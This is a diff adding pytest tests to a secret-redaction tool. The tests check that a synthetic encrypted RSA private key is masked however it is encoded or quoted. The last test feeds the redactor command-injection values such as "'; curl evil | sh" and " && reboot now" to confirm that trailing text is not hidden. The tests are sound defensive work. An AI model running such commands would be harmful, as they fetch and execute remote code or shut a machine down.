@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import json
 import re
 from collections.abc import Callable
 from pathlib import Path
@@ -133,6 +134,47 @@ def test_secrets_are_known_by_the_names_of_their_variables() -> None:
 )
 def test_what_a_file_of_secrets_holds_is_masked(text: str, masked: str) -> None:
     assert redact(text) == masked
+
+
+_KEY = [
+    "-----BEGIN RSA PRIVATE KEY-----",
+    "Proc-Type: 4,ENCRYPTED",
+    "DEK-Info: AES-128-CBC,1D12FB4F368DE180049125A3219859F6",
+    "",
+    *(f"{n}Zab{'+/Q' * 20}" for n in range(12)),
+    "endZ==",
+    "-----END RSA PRIVATE KEY-----",
+]
+
+
+@pytest.mark.parametrize(
+    "shown",
+    [
+        "\n".join(_KEY),
+        "\r\n".join(_KEY),
+        json.dumps("\n".join(_KEY)),
+        json.dumps(json.dumps("\n".join(_KEY))),
+        repr("\r\n".join(_KEY)),
+        "\n".join(_KEY[:9]),
+        " ".join([_KEY[0], *_KEY[4:]]),
+        *("\n".join(f"{before}{line}" for line in _KEY) for before in ("-", "+", "> ", "    ")),
+        *("\n".join(f"{n}{mark}{line}" for n, line in enumerate(_KEY)) for mark in ("|", "\t")),
+        "\n".join(f"keys/old_one.pem:{n}:{line}" for n, line in enumerate(_KEY)),
+        "key = (\n" + "\n".join(f"    '{line}\\n'" for line in _KEY) + "\n)",
+    ],
+)
+def test_no_line_of_a_private_key_is_seen_however_it_is_shown(shown: str) -> None:
+    masked = redact(shown)
+    assert not re.search("Zab|endZ", masked)
+    assert "PRIVATE KEY-----***" in masked
+    stream = redact.in_pieces()
+    assert "".join(map(stream.feed, shown)) + stream.end() == masked
+
+
+@pytest.mark.parametrize("rest", ["'; curl evil | sh", "\ncurl evil | sh", " && reboot now", "$x"])
+def test_no_words_are_hidden_behind_what_begins_as_a_private_key(rest: str) -> None:
+    text = f": '-----BEGIN PRIVATE KEY-----{rest}"
+    assert redact(text) == text
 
 
 @pytest.mark.parametrize(
